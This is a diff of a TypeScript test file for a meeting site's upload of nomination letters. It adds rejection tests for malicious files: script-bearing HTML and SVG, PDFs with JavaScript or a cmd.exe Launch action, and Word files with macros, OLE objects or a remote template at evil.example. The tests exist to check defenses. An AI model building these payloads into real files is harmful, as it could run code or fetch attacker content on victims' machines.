@@ -1,7 +1,10 @@
+import { readdirSync } from 'node:fs';
+import nodePath from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Client } from '../../../test/client.ts';
 import { createTestSite, type TestSite } from '../../../test/harness.ts';
 import { makeCountry, makeMeeting, makeOrganisation, makeSeries } from '../../../test/made.ts';
+import { madeOffice, madePdf, paragraphs } from '../../../test/made-files.ts';
 import { makePerson } from '../../../test/made-people.ts';
 import { locales } from '../../platform/i18n.ts';
 import { signToken } from '../../platform/token.ts';
@@ -276,7 +279,7 @@ describe('letters of nomination', () => {
         Buffer.from(`\r\n--${boundary}--\r\n`),
       ]),
     });
-  const pdf = Buffer.from('%PDF-1.7\n1 0 obj\nendobj\ntrailer\n%%EOF\n');
+  const pdf = madePdf(['We nominate two delegates.']);
   const lettersOf = (meetingId: string) =>
     site.owner
       .selectFrom('nominationLetter as l')
@@ -308,21 +311,37 @@ describe('letters of nomination', () => {
 
   test('that are something else, cut, empty or too long are refused with a word', async () => {
     const { path, meeting } = await invite();
-    const zip = (name: string) =>
-      Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.from(`[Content_Types].xml ${name}`)]);
-    for (const [bytes, name] of [
-      [Buffer.from('<html><script>alert(1)</script>'), 'letter.pdf'],
-      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'letter.png'],
-      [Buffer.from('MZ\u0000\u0000 a program'), 'letter.docx'],
-      [Buffer.from('%PDF-1.7 cut off'), 'letter.pdf'],
-      [zip('xl/workbook.xml'), 'letter.docx'],
-      [zip('word/document.xml word/vbaProject.bin'), 'letter.docx'],
-      [Buffer.from('GIF89a'), 'letter.jpg'],
+    const said = 'This is not a PDF';
+    const word = { 'word/document.xml': paragraphs('We nominate two delegates.') };
+    const rels = (type: string, target: string) =>
+      `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+    for (const [bytes, name, why] of [
+      [Buffer.from('<html><script>alert(1)</script>'), 'letter.pdf', said],
+      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'letter.png', said],
+      [Buffer.from('MZ\u0000\u0000 a program'), 'letter.docx', 'would run something'],
+      [Buffer.from('%PDF-1.7 cut off'), 'letter.pdf', 'broken or cut off'],
+      [pdf.subarray(0, -20), 'letter.pdf', 'broken or cut off'],
+      [madePdf(['x'], '', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'letter.pdf', 'would run something'],
+      [madePdf(['x'], '', '/OpenAction << /S /Launch /F (cmd.exe) >>'), 'letter.pdf', 'would run something'],
+      [madeOffice('xlsx'), 'letter.docx', said],
+      [madeOffice('docx', { ...word, 'word/vbaProject.bin': 'x' }), 'letter.docx', 'macros'],
+      [madeOffice('docx', { ...word, 'word/embeddings/oleObject1.bin': 'x' }), 'letter.docx', 'OLE'],
+      [
+        madeOffice('docx', {
+          ...word,
+          'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://evil.example/t.dotm'),
+        }),
+        'letter.docx',
+        'fetch content from elsewhere',
+      ],
+      [Buffer.from('GIF89a'), 'letter.jpg', 'broken or cut off'],
+      [Buffer.from('We nominate two delegates.'), 'letter.pdf', said],
     ] as const) {
       const answer = await upload(path, bytes, name);
       expect(answer.statusCode, name).toBe(422);
-      expect(answer.body).toContain('This is not a PDF');
+      expect(answer.body).toContain(why);
     }
+    expect(await lettersOf(meeting.id)).toEqual([]);
     expect((await upload(path, Buffer.alloc(0))).statusCode).toBe(422);
     expect((await upload(path, Buffer.alloc(10 * 1024 * 1024 + 10, '%PDF-1.7'))).body).toContain('more than 10 MB');
     expect((await upload(path, pdf, 'x.pdf', { 'sec-fetch-site': 'cross-site' })).statusCode).toBe(403);
@@ -335,6 +354,8 @@ describe('letters of nomination', () => {
       ).statusCode,
     ).toBe(303);
     expect(await lettersOf(meeting.id)).toEqual([]);
-    expect((await upload(path, zip('word/document.xml'), 'x.docx')).statusCode).toBe(303);
-  });
+    // Nothing of them lies anywhere.
+    expect(readdirSync(nodePath.join(site.platform.filesDirectory, 'incoming'))).toEqual([]);
+    expect((await upload(path, madeOffice('docx', word), 'x.docx')).statusCode).toBe(303);
+  }, 120_000);
 });
